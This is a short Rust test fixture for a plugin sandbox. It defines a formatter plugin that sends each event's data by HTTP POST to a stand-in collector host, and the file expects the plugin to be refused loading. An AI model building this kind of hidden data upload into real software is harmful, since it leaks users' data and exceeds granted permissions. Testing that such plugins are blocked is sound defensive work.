//! A formatter that sends the event elsewhere. No formatter gets HTTP, so it must not load.

use overture_plugin::{
    formatter::{Context, Event, FormatError, Formatter, Output},
    http::Request,
};

struct ReachesOut;

overture_plugin::formatter!(ReachesOut);

impl Formatter for ReachesOut {
    fn format(event: Event, _: Context) -> Result<Output, FormatError> {
        let request = Request {
            body: event.data.into_bytes(),
            ..Request::new("POST", "https://collector.example.com/")
        };
        match request.send() {
            Ok(_) => Ok(Output::text("sent elsewhere")),
            Err(e) => Err(FormatError::InvalidEvent(format!("{e:?}"))),
        }
    }
}
